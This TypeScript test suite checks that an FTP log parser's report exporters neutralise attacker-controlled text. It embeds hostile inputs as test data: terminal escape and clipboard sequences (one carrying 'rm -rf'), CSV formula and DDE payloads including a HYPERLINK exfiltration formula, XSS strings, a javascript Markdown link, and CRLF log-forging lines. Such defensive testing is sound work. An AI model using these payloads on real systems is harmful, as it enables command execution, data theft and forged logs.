import { describe, expect, it } from 'vitest';
import { exporters } from '../../src/exporters/index.ts';
import { latin1 } from './promises.ts';
import { outputKinds, writeAll } from './written.ts';

/** A client's transcript in which a stranger chose the name of the file, the user and what the server says. */
function transcriptWith(vector: string): string {
  return [
    '* Connected to ftp.example.net (192.0.2.7) port 21 (#0)',
    `< 220 ${vector}`,
    `> USER ${vector}`,
    '< 331 Password required',
    '> PASS x',
    '< 230 ok',
    `> CWD ${vector}`,
    `< 550 ${vector}: no such folder`,
    '> PASV',
    '< 227 Entering Passive Mode (192,0,2,7,195,80)',
    `> RETR ${vector}`,
    `< 150 Opening data connection for ${vector} (99 bytes)`,
    `< 426 ${vector}`,
    '> QUIT',
    '< 221 bye',
    '',
  ].join('\r\n');
}

const ACTIVE = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
/** Formats that hold control characters escaped by their own rules, or are not text. */
const ESCAPING = /^(?:json|jsonl|xlsx|parquet)\b/;

/** Markdown without its blocks of code, and escaped marks as entities. */
function outsideFences(text: string): string {
  return text.replace(/^(`{3,})\n[\s\S]*?\n\1$/gm, '').replaceAll('\\<', '&lt;');
}

describe('text of strangers', { timeout: 60_000 }, () => {
  const terminal: readonly (readonly [string, string])[] = [
    ['colours and cursor movements', '\x1b[31m\x1b[2J\x1b[1;1H'],
    ['the window title', '\x1b]0;owned\x07'],
    ['the clipboard (OSC 52)', '\x1b]52;c;cm0gLXJm\x07'],
    ['C1 controls in UTF-8', '\xc2\x9b31m'],
    ['C1 controls as bytes', '\x9b31m'],
    ['reversed text', 'exe.\xe2\x80\xaefdp.cod'],
    ['a backspace over the line', 'safe\b\b\b\bevil'],
    ['NUL and DEL', 'a\0b\x7fc'],
    ['lone surrogates in UTF-8', '\xed\xa0\x80\xed\xb0\x80'],
  ];
  it.each(terminal)('cannot steer a terminal or editor by %s, in any output', async (_, vector) => {
    const written = await writeAll(latin1(transcriptWith(vector)));
    expect(written.size).toBe(outputKinds.length);
    for (const [output, text] of written)
      if (!ESCAPING.test(output)) expect(ACTIVE.exec(text)?.[0], output).toBeUndefined();
    const json = JSON.parse(Buffer.from(written.get('json report')!, 'latin1').toString('latin1'));
    expect(json.sessions).toHaveLength(1);
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0"])(
    'is no formula in CSV and TSV: %s',
    async (vector) => {
      for (const [output, text] of await writeAll(latin1(transcriptWith(vector)))) {
        if (!/^[ct]sv\b/.test(output)) continue;
        const cells = text.split(/\r?\n/).flatMap((line) => line.split(/[,\t](?=(?:[^"]*"[^"]*")*[^"]*$)/));
        for (const cell of cells) expect(cell.replace(/^"/, ''), output).not.toMatch(/^\s*[=+@]|^\s*-\d*\+/);
      }
    },
  );

  const markup = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '</script><script>alert(1)//',
    '<!-- hidden',
    ']]><x/>',
  ];
  it.each(exporters.filter(({ id }) => /^(?:html|markdown|junit|sarif)$/.test(id)))(
    'is no markup in $id',
    async ({ id }) => {
      for (const vector of markup) {
        const text = (await writeAll(latin1(transcriptWith(vector)))).get(`${id} report`) ?? '';
        if (id === 'sarif') JSON.parse(text);
        // Within a fence Markdown shows everything as it is.
        else expect(id === 'markdown' ? outsideFences(text) : text).not.toContain(vector);
      }
    },
  );

  it.each(exporters.filter(({ id }) => id === 'markdown'))(
    'makes no link, image, table cell or heading in $id',
    async () => {
      const vector = '![x](http://evil.example/a.png) | [y](javascript:alert(1)) `code` # h';
      const text = (await writeAll(latin1(transcriptWith(vector)))).get('markdown report')!;
      expect(outsideFences(text)).not.toMatch(/(?<!\\)!\[x\]\(http|(?<!\\)\[y\]\(javascript/);
    },
  );

  it('forges no lines: encoded line ends stay encoded, in every output', async () => {
    const vector = 'a.txt%0d%0a226 Transfer complete';
    const written = await writeAll(latin1(transcriptWith(vector)));
    for (const [output, text] of written) expect(text, output).not.toMatch(/^226 Transfer complete/m);
    const { sessions } = JSON.parse(written.get('json report')!);
    expect(sessions[0].transfers[0].outcome).toBe('aborted');
    expect(sessions[0].transfers[0].path).toBe(vector);
  });

  it('forges no session in a ProFTPD log whose file names hold raw line ends', async () => {
    const line = (command: string, code: number) =>
      `192.0.2.9 UNKNOWN anna [22/Nov/2026:05:11:21 +0000] "${command}" ${code} -\n`;
    const forged = 'RETR a\n203.0.113.66 UNKNOWN root [22/Nov/2026:05:11:21 +0000] "RETR /etc/shadow';
    const log = line('USER anna', 331) + line('PASS (hidden)', 230) + line(forged, 550) + line('QUIT', 221);
    const { sessions } = JSON.parse((await writeAll(latin1(log))).get('json report')!);
    const real = sessions.find((session: { user: string }) => session.user === 'anna');
    expect(real.login).toBe('accepted');
    // A log cannot tell such a line from its own; what it says is then shown with its line, like any other.
    for (const session of sessions) expect(session.firstLine).toBeGreaterThan(0);
  });
});
